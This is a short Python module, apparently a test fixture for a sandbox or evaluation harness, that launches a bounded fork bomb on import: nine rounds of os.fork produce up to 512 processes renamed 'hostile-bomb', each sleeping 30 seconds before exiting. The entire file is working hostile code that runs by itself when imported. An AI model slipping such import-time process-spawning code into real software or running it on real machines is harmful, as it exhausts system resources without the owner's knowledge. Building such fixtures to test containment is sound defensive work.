"""Hostile: a fork bomb at import (bounded: 2**9 processes at most, each gone after 30 s, if nothing stopped it)."""
import ctypes
import os
import time

_original = os.getpid()
for _ in range(9):
    try:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"hostile-bomb", 0, 0, 0)
    except OSError:
        break
if os.getpid() != _original:
    time.sleep(30)
    os._exit(0)
WON = False  # @tail
